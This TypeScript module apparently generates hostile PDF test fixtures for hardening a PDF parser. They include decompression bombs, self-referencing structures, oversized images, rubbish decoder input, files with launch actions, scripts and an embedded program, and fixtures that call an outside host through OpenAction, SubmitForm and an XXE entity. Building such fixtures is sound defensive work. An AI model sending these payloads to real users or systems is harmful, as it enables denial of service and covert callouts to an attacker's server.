/** PDFs that never end, explode, or carry rubbish where a decoder waits. */
import { deflateSync } from "node:zlib";
import { pdfWith, windowsProgram } from "./dangerous.ts";
import { encryptedPdf, endlessPdfs, rawPdf, stream } from "./hostile.ts";

const latin = (s: string): Uint8Array => new Uint8Array(Buffer.from(s, "latin1"));

/** A page with resources and contents; objects from number 5 on are the caller's. */
const onePage = (resources: string, contents: string, more: (string | Uint8Array)[] = [], page = "") =>
  rawPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R ${page || "/MediaBox [0 0 612 792]"} /Resources << ${resources} >> /Contents 4 0 R >>`,
    stream(contents),
    ...more,
  ]);

const image = (filter: string, bytes: Uint8Array, width: number, height: number, more = "") =>
  onePage("/XObject << /I 5 0 R >>", "612 0 0 792 0 0 cm /I Do", [
    stream(
      bytes,
      `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceGray /BitsPerComponent ${/JBIG2|CCITT/.test(filter) ? 1 : 8} /Filter ${filter} ${more}`,
    ),
  ]);

/** Noise that is the same every time. */
export function noise(length: number, seed = 7): Uint8Array {
  const b = new Uint8Array(length);
  let x = seed;
  for (let i = 0; i < length; i++) {
    x = (Math.imul(x, 1103515245) + 12345) >>> 0;
    b[i] = x >>> 16;
  }
  return b;
}

function deepTree(levels: number): Uint8Array {
  const nodes = Array.from(
    { length: levels },
    (_, i) => `<< /Type /Pages /Kids [${i + 3} 0 R] /Count 1 ${i > 0 ? `/Parent ${i + 1} 0 R` : ""} >>`,
  );
  return rawPdf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    ...nodes,
    `<< /Type /Page /Parent ${levels + 1} 0 R /MediaBox [0 0 9 9] >>`,
  ]);
}

function packedTimes(bytes: Uint8Array, times: number): Uint8Array {
  let b = bytes;
  for (let i = 0; i < times; i++) b = deflateSync(b, { level: 9 });
  return b;
}

const font = (kind: string, key: string) =>
  onePage("/Font << /F 5 0 R >>", "BT /F 20 Tf 72 700 Td (Rubbish in a font) Tj ET", [
    `<< /Type /Font /Subtype /${kind} /BaseFont /X /FirstChar 0 /LastChar 255 /Widths [${"500 ".repeat(256)}] /FontDescriptor 6 0 R >>`,
    `<< /Type /FontDescriptor /FontName /X /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /${key} 7 0 R >>`,
    stream(noise(60_000), "/Length1 1000 /Length2 50000 /Length3 500"),
  ]);

export const hostilePdfs: Record<string, (outside: string) => Uint8Array> = {
  ...Object.fromEntries(
    Object.entries(endlessPdfs).map(([name, make]) => [`${name.replaceAll(" ", "-")}.pdf`, make]),
  ),
  "page-tree-20000-deep.pdf": () => deepTree(20_000),
  "page-of-a-thousand-kilometres.pdf": () =>
    onePage("", "0 0 m 9e8 9e8 l S", [], "/MediaBox [0 0 2834645669 2834645669] /UserUnit 100"),
  "page-of-nothing.pdf": () => onePage("", "", [], "/MediaBox [0 0 0 -5]"),
  "forms-in-a-circle.pdf": () =>
    onePage("/XObject << /A 5 0 R >>", "/A Do", [
      stream(
        "/B Do /B Do",
        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /B 6 0 R >> >>",
      ),
      stream(
        "/A Do /A Do",
        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 5 0 R >> >>",
      ),
    ]),
  "forms-doubling.pdf": () =>
    onePage("/XObject << /X 5 0 R >>", "/X Do", [
      ...Array.from({ length: 30 }, (_, i) =>
        stream(
          "/X Do /X Do",
          `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${i + 6} 0 R >> >>`,
        ),
      ),
      stream("0 0 9 9 re f", "/Type /XObject /Subtype /Form /BBox [0 0 9 9]"),
    ]),
  "a-million-objects.pdf": () =>
    rawPdf([
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [] /Count 0 >>",
      ...Array.from({ length: 1_000_000 }, () => "null"),
    ]),
  "packed-three-times.pdf": () =>
    onePage("/XObject << /F 5 0 R >>", "/F Do", [
      stream(
        packedTimes(Buffer.alloc(400 * 1024 * 1024, 0x20), 3),
        "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Filter [/FlateDecode /FlateDecode /FlateDecode]",
      ),
    ]),
  "jbig2-rubbish.pdf": () => image("/JBIG2Decode", noise(40_000), 20_000, 20_000),
  "jpx-rubbish.pdf": () =>
    image(
      "/JPXDecode",
      Buffer.concat([Buffer.from("0000000c6a5020200d0a870a", "hex"), noise(40_000)]),
      9000,
      9000,
    ),
  "jpx-huge.pdf": () =>
    image(
      "/JPXDecode",
      Buffer.concat([
        Buffer.from("ff4fff510029000000010000000100000000000000000001000000010000000000000000000107", "hex"),
        noise(4000),
      ]),
      65_536,
      65_536,
    ),
  "jpeg-rubbish.pdf": () =>
    image("/DCTDecode", Buffer.concat([latin("\xff\xd8\xff\xe0"), noise(40_000)]), 30_000, 30_000),
  "fax-of-a-billion-rows.pdf": () =>
    image(
      "/CCITTFaxDecode",
      noise(2000),
      60_000,
      60_000,
      "/DecodeParms << /K -1 /Columns 60000 /Rows 1000000000 >>",
    ),
  "picture-60000-wide.pdf": () =>
    image("/FlateDecode", packedTimes(Buffer.alloc(200 * 1024 * 1024), 1), 60_000, 60_000),
  "predictor-rubbish.pdf": () =>
    image(
      "/FlateDecode",
      deflateSync(noise(100_000)),
      2000,
      2000,
      "/DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 >>",
    ),
  "font-type1-rubbish.pdf": () => font("Type1", "FontFile"),
  "font-truetype-rubbish.pdf": () => font("TrueType", "FontFile2"),
  "tiles-without-end.pdf": () =>
    onePage("/Pattern << /P 5 0 R >>", "/Pattern cs /P scn 0 0 612 792 re f", [
      stream(
        "0 0 1 1 re f",
        "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << >>",
      ),
    ]),
  "shading-without-end.pdf": () =>
    onePage("/Shading << /S 5 0 R >>", "/S sh ".repeat(20_000), [
      "<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1e6 0 1e6] /Function 6 0 R >>",
      stream(
        `{ ${"dup mul ".repeat(5000)} pop dup dup }`,
        "/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]",
      ),
    ]),
  "notes-without-end.pdf": () =>
    onePage(
      "",
      "",
      ["<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (x) >>"],
      `/MediaBox [0 0 612 792] /Annots [${"5 0 R ".repeat(200_000)}]`,
    ),
  "lists-in-lists.pdf": () =>
    onePage("", "", [`${"[".repeat(200_000)}${"]".repeat(200_000)}`], "/MediaBox 5 0 R"),
  "dictionary-in-itself.pdf": () =>
    onePage("/Font 5 0 R /XObject 5 0 R /ExtGState 5 0 R", "/A Do /A gs", [
      "<< /A 5 0 R /Resources 5 0 R >>",
    ]),
  "object-stream-in-itself.pdf": () =>
    rawPdf([
      "<< /Type /Catalog /Pages 2 0 R >>",
      stream("2 0 << /Type /Pages /Kids [] >>", "/Type /ObjStm /N 1 /First 4 /Extends 2 0 R"),
    ]),
  "locked-rubbish.pdf": () => {
    const b = Buffer.from(encryptedPdf("secret"));
    noise(400).forEach((byte, i) => {
      b[b.length - 900 + i] = byte;
    });
    return new Uint8Array(b);
  },
  "starts-a-program.pdf": () => pdfWith.launchPacked(),
  "with-a-script.pdf": () => pdfWith.script(),
  "with-a-program.pdf": () => pdfWith.file("bill.txt", windowsProgram()),
  "calls-outside.pdf": (outside) =>
    rawPdf([
      `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (${outside}/open) >> /AA << /WC << /S /SubmitForm /F (${outside}/form) >> >> >>`,
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /I 4 0 R >> >> /Contents 5 0 R >>`,
      stream(
        "",
        `/Type /XObject /Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (${outside}/image) >> /BitsPerComponent 8 /ColorSpace /DeviceGray`,
      ),
      stream("/I Do"),
    ]),
  "stream-of-objects-bomb.pdf": () =>
    rawPdf([
      "<< /Type /Catalog /Pages 2 0 R >>",
      stream(
        packedTimes(Buffer.alloc(300 * 1024 * 1024, 0x20), 2),
        "/Type /ObjStm /N 1000000 /First 8000000 /Filter [/FlateDecode /FlateDecode]",
      ),
    ]),
  "table-of-places-bomb.pdf": () => {
    const packed = deflateSync(Buffer.alloc(100 * 1024 * 1024, 1), { level: 9 });
    const table = stream(
      packed,
      "/Type /XRef /Size 20000000 /W [1 3 1] /Index [0 20000000] /Root 1 0 R /Filter /FlateDecode",
    );
    const head = latin("%PDF-1.5\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n");
    return Buffer.concat([
      head,
      latin("3 0 obj\n"),
      table,
      latin(`\nendobj\nstartxref\n${head.length}\n%%EOF\n`),
    ]);
  },
  "tables-of-places-in-a-long-chain.pdf": () => {
    const parts: Uint8Array[] = [rawPdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Kids [] /Count 0 >>"])];
    let at = parts[0]?.length ?? 0;
    for (let i = 0; i < 20_000; i++) {
      const part = latin(
        `xref\n0 0\ntrailer\n<< /Size 3 /Root 1 0 R /Prev ${Math.max(0, at - 90)} >>\nstartxref\n${at}\n%%EOF\n`,
      );
      parts.push(part);
      at += part.length;
    }
    return Buffer.concat(parts);
  },
  "a-hundred-thousand-pages.pdf": () =>
    rawPdf([
      "<< /Type /Catalog /Pages 2 0 R >>",
      `<< /Type /Pages /Kids [${"3 0 R ".repeat(100_000)}] /Count 100000 >>`,
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ]),
  "contents-in-a-million-pieces.pdf": () =>
    rawPdf([
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [${"4 0 R ".repeat(1_000_000)}] >>`,
      stream("q Q"),
    ]),
  "pattern-in-itself.pdf": () =>
    onePage("/Pattern << /P 5 0 R >>", "/Pattern cs /P scn 0 0 612 792 re f", [
      stream(
        "/Pattern cs /P scn 0 0 9 9 re f",
        "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 9 /YStep 9 /Resources << /Pattern << /P 5 0 R >> >>",
      ),
    ]),
  "letter-draws-itself.pdf": () =>
    onePage("/Font << /F 5 0 R >>", "BT /F 20 Tf 72 700 Td (aaaa) Tj ET", [
      "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [9] /Resources << /Font << /F 5 0 R >> >> >>",
      stream("9 0 d0 BT /F 20 Tf (aaaa) Tj ET"),
    ]),
  "mask-in-itself.pdf": () =>
    onePage("/ExtGState << /G 5 0 R >>", "/G gs 0 0 99 99 re f", [
      "<< /Type /ExtGState /SMask << /S /Luminosity /G 6 0 R >> >>",
      stream(
        "/G gs 0 0 99 99 re f",
        "/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Group << /S /Transparency >> /Resources << /ExtGState << /G 5 0 R >> >>",
      ),
    ]),
  "map-of-letters-bomb.pdf": () =>
    onePage("/Font << /F 5 0 R >>", "BT /F 20 Tf 72 700 Td <00410042> Tj ET", [
      "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>",
      "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (A) /Ordering (I) /Supplement 0 >> /DW 500 >>",
      stream(
        deflateSync(
          Buffer.from(
            `begincmap 1 begincodespacerange <0000> <ffffffff> endcodespacerange\n${"1 beginbfrange <00000000> <7fffffff> <0041> endbfrange\n".repeat(2000)}endcmap`,
          ),
        ),
        "/Filter /FlateDecode",
      ),
    ]),
  "map-uses-itself.pdf": () =>
    onePage("/Font << /F 5 0 R >>", "BT /F 20 Tf 72 700 Td <00410042> Tj ET", [
      "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 7 0 R /DescendantFonts [6 0 R] >>",
      "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (A) /Ordering (I) /Supplement 0 >> /DW 500 >>",
      stream("/Self usecmap begincmap endcmap", "/Type /CMap /CMapName /Self /UseCMap 7 0 R"),
    ]),
  "widths-without-end.pdf": () =>
    onePage("/Font << /F 5 0 R >>", "BT /F 20 Tf 72 700 Td <00410042> Tj ET", [
      "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [6 0 R] >>",
      `<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (A) /Ordering (I) /Supplement 0 >> /W [${"0 2000000000 500 ".repeat(3)}] >>`,
    ]),
  "outline-in-a-circle.pdf": () =>
    rawPdf([
      "<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R /Names << /Dests 5 0 R >> /PageLabels 5 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
      "<< /First 4 0 R /Last 4 0 R /Next 4 0 R /Title (x) >>",
      "<< /Kids [5 0 R 5 0 R] >>",
    ]),
  "form-fields-in-a-circle.pdf": () =>
    rawPdf([
      "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>",
      "<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (x) /Rect [0 0 9 9] /Kids [4 0 R] /Parent 4 0 R >>",
    ]),
  "form-with-a-template.pdf": (outside) =>
    rawPdf([
      "<< /Type /Catalog /Pages 2 0 R /NeedsRendering true /AcroForm << /XFA 4 0 R >> >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
      stream(
        `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "${"&a;".repeat(1000)}"><!ENTITY u SYSTEM "${outside}/xfa">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f">${"<subform>".repeat(3000)}<draw><value><text>&b;&u;</text></value></draw></subform></template></xdp:xdp>`,
      ),
    ]),
  "fax-7000.pdf": () =>
    image("/CCITTFaxDecode", noise(60_000), 7000, 4900, "/DecodeParms << /K -1 /Columns 7000 >>"),
  "jbig2-7000.pdf": () => image("/JBIG2Decode", noise(60_000), 7000, 4900),
  "pictures-many.pdf": () =>
    onePage("/XObject << /I 5 0 R >>", "612 0 0 792 0 0 cm /I Do ".repeat(5000), [
      stream(
        deflateSync(Buffer.alloc(3000 * 3000)),
        "/Type /XObject /Subtype /Image /Width 3000 /Height 3000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode",
      ),
    ]),
  "pictures-large-many.pdf": () =>
    onePage(
      `/XObject << ${Array.from({ length: 30 }, (_, i) => `/I${i} ${i + 5} 0 R`).join(" ")} >>`,
      Array.from({ length: 30 }, (_, i) => `q 612 0 0 792 0 0 cm /I${i} Do Q`).join(" "),
      Array.from({ length: 30 }, (_, i) =>
        stream(
          deflateSync(Buffer.alloc(5900 * 6000, i)),
          "/Type /XObject /Subtype /Image /Width 5900 /Height 6000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode",
        ),
      ),
    ),
  "palette-bomb.pdf": () =>
    image(
      "/FlateDecode",
      deflateSync(Buffer.alloc(4_000_000)),
      2000,
      2000,
      `/Decode [${"0 1 ".repeat(50_000)}] /ColorSpace [/Indexed /DeviceRGB 2147483647 (x)]`,
    ),
  "text-of-one-letter.pdf": () =>
    onePage("/Font << /F 5 0 R >>", `BT /F 1 Tf 72 700 Td ${"(a) Tj ".repeat(300_000)} ET`, [
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]),
  "text-of-one-string.pdf": () =>
    onePage("/Font << /F 5 0 R >>", `BT /F 1 Tf 72 700 Td (${"word ".repeat(1_000_000)}) Tj ET`, [
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]),
  "numbers-without-end.pdf": () =>
    onePage("", `${"9".repeat(5_000_000)} 0 m ${"-".repeat(1_000_000)}1 0 l S`),
  "strings-in-strings.pdf": () => onePage("", `${"(".repeat(2_000_000)}x`),
  "length-lies.pdf": () =>
    rawPdf([
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
      "<< /Length 99999999999 >>\nstream\nq Q\nendstream",
    ]),
};
